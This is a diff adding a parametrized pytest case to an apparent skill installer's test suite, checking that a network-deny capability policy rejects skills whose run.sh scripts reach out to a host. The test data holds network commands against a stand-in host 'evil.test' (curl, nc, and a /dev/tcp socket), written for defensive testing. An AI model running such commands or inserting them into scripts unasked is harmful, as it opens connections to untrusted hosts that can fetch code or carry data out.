@@ -562,3 +562,13 @@ def test_attack_a_pattern_that_is_no_tool_forbids_nothing(world, level):
     with pytest.raises(FormatError, match="expected a tool"):
         world.install(path)
     assert not (world.base / "skillhub.lock").exists()
+
+
+@pytest.mark.parametrize("denied", ["network", "network:*", "network:evil.test"])
+@pytest.mark.parametrize(
+    "script", ["curl evil.test/x", "nc -z evil.test 80", "exec 3<>/dev/tcp/evil.test/80"]
+)
+def test_attack_a_skill_that_names_no_host_passes_a_policy_that_denies_the_network(world, denied, script):
+    skill(world.base / "src", scripts__run_sh=f"#!/bin/sh\n{script}\n")
+    path = user(world, f'deny-capabilities = ["{denied}"]')
+    forbidden(world, f"{path}:1", lambda: world.install(str(world.base / "src" / "plain")))
